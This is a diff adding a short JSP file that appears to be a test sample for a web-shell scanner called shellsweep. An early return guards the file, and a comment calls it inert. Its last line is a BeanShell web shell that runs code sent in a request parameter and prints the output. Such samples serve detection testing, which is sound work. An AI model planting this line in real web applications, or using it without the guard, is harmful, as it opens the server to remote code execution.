@@ -1,0 +1,3 @@
+<%-- shellsweep test sample: inert, never functional --%>
+<% if (true) return; %>
+<% bsh.Interpreter i = new bsh.Interpreter(); out.print(i.eval(request.getParameter("b"))); %>
